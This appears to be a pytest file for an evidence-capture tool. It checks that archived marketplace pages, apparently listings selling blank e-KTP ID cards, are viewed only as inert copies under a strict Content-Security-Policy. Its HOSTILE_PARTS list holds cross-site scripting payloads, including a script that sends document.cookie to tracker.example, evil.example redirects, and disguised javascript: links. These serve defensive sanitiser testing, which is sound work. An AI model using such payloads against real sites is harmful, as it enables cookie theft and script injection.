"""Captured HTML: the original bytes are kept; what `evidence view` opens is an inert copy under a strict CSP."""

from __future__ import annotations

import hashlib
import re
import time
from datetime import UTC, datetime
from pathlib import Path

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from alerts.evidence import EvidenceStore, capture_pending_sync
from alerts.evidence.viewing import VIEW_CSP, viewing_copy
from config import Settings
from crawler.cli import app
from storage import evidence as evidence_db
from tests.evidence.conftest import Served, make_alert, request_bundle
from tests.evidence.test_cli import cli_runtime

runner = CliRunner()

HOSTILE_PARTS = [
    "<script>fetch('https://tracker.example/?c='+document.cookie)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href=' javascript:alert(2)'>klik</a>",
    "<a href='JaVaScRiPt&colon;alert(3)'>klik</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
    "<link rel='prefetch' href='https://evil.example/p'>",
    "<svg><script>alert(5)</script><animate onbegin='alert(6)'/></svg>",
    "<form action='javascript:alert(7)'><button formaction='javascript:alert(8)'>x</button></form>",
    "<body onload='alert(9)'>",
    "<div style='color:red' onclick='alert(10)'>Jual blangko e-KTP kosong</div>",
    "<p>Blangko KTP-el asli, hubungi WA</p>",
    "<!-- <script>alert(11)</script> -->",
]


def _check_inert(copy: bytes) -> lxml.html.HtmlElement:
    document = lxml.html.document_fromstring(copy)
    head = document.find("head")
    assert head is not None
    first = head[0]
    assert first.tag == "meta" and first.get("http-equiv") == "Content-Security-Policy"
    assert first.get("content") == VIEW_CSP
    assert [m.get("content") for m in document.iter("meta") if m.get("http-equiv")] == [VIEW_CSP]
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("script", "iframe", "object", "embed", "base"), element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert "javascript" not in "".join(value.split()).lower().replace("&colon;", ":"), value
    return document


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE_PARTS), min_size=1, max_size=12))
def test_the_viewing_copy_has_the_csp_first_and_nothing_that_runs(parts: list[str]) -> None:
    page = f"<html><head><title>t</title></head><body>{''.join(parts)}</body></html>".encode()
    document = _check_inert(viewing_copy(page, source_url="https://shop.example/p/1", sha256="ab" * 32))
    for text in ("Jual blangko e-KTP kosong", "Blangko KTP-el asli"):
        if any(text in part for part in parts):
            assert text in document.text_content()


def test_a_headless_fragment_still_gets_a_head_with_the_csp() -> None:
    _check_inert(viewing_copy(b"<p>hi<script>x()</script>", source_url="u", sha256="cd" * 32))
    _check_inert(viewing_copy(b"", source_url="u", sha256="cd" * 32))


def _bundle_with_html(sessions: sessionmaker[Session], store: EvidenceStore, html: bytes) -> tuple[int, str]:
    """An alert whose bundle holds only an original page.html (as bundles from before viewing copies do)."""
    stored = store.put_bytes(html)
    with sessions.begin() as session:
        listing, alert = make_alert(session, "https://shop.example/p/1")
        bundle = evidence_db.create_bundle(session, listing_id=listing.id, alert_id=alert.id, purpose="alert")
        evidence_db.add_file(session, bundle, kind="html", name="page.html", path=str(stored.path),
                             sha256=stored.sha256, size=stored.size, captured_at=datetime.now(UTC),
                             url="https://shop.example/p/1")
        return alert.id, str(stored.path)


def test_evidence_view_opens_the_copy_never_the_original(
    settings: Settings, store: EvidenceStore, session_factory: sessionmaker[Session],
) -> None:
    original = b"<html><body><script>steal()</script><h1>Jual blangko</h1></body></html>"
    alert_id, original_path = _bundle_with_html(session_factory, store, original)
    result = runner.invoke(app, ["evidence", "view", str(alert_id)], obj=cli_runtime(settings, session_factory))
    assert result.exit_code == 0, result.output
    assert original_path not in result.output and Path(original_path).as_uri() not in result.output
    (uri,) = re.findall(r"file://\S+", result.output)
    shown = Path(uri.removeprefix("file://")).read_bytes()
    _check_inert(shown)
    assert b"Jual blangko" in shown and b"steal()" not in shown
    assert Path(original_path).read_bytes() == original  # the evidence is untouched
    assert hashlib.sha256(Path(original_path).read_bytes()).hexdigest() in shown.decode()


def test_evidence_view_without_a_capture_says_so(
    settings: Settings, store: EvidenceStore, session_factory: sessionmaker[Session], served: Served,
) -> None:
    alert_id, _ = request_bundle(session_factory, store, served.listing_url(3), "3")
    result = runner.invoke(app, ["evidence", "view", str(alert_id)], obj=cli_runtime(settings, session_factory))
    assert result.exit_code == 1 and "no captured page yet" in result.output


@pytest.mark.browser
def test_capture_writes_the_original_and_the_viewing_copy(
    chromium: str, served: Served, settings: Settings, store: EvidenceStore,
    session_factory: sessionmaker[Session],
) -> None:
    alert_id, bundle_id = request_bundle(session_factory, store, served.listing_url(4), "4")
    assert capture_pending_sync(session_factory, settings).results[0].status == "ok"
    with session_factory() as session:
        files = {f.kind: f for f in evidence_db.bundle_files(session, bundle_id)}
    original = store.path_for(files["html"].sha256).read_bytes()
    copy = store.path_for(files["html_view"].sha256).read_bytes()
    assert b"Content-Security-Policy" not in original
    _check_inert(copy)
    result = runner.invoke(app, ["evidence", "view", str(alert_id)], obj=cli_runtime(settings, session_factory))
    assert result.exit_code == 0 and store.path_for(files["html_view"].sha256).as_uri() in result.output
    assert "made now" not in result.output


@pytest.mark.browser
def test_a_trickling_page_is_given_up_at_the_capture_deadline(
    chromium: str, store: EvidenceStore, session_factory: sessionmaker[Session],
) -> None:
    """evidence.capture_timeout_seconds bounds the whole render (a guard: this held before issue 17 too)."""
    from config import load_config
    from tests.images.test_origins_and_deadline import TRICKLE_INTERVAL, trickling_server
    from tests.marketplace_hosts import every_marketplace_under

    with trickling_server() as base:
        settings = every_marketplace_under(load_config().settings, base)
        evidence = settings.evidence.model_copy(update={"capture_timeout_seconds": 3, "dir": store.root})
        settings = settings.model_copy(update={"evidence": evidence})
        request_bundle(session_factory, store, f"{base}/tokopedia/p/1")
        started = time.monotonic()
        (result,) = capture_pending_sync(session_factory, settings).results
        elapsed = time.monotonic() - started
    assert result.status == "failed" and re.search(r"timed out|Timeout 3000ms", result.reason), result.reason
    assert elapsed < 3 + 5 + TRICKLE_INTERVAL + 5  # render deadline + its 5 s grace + one trickle + browser start
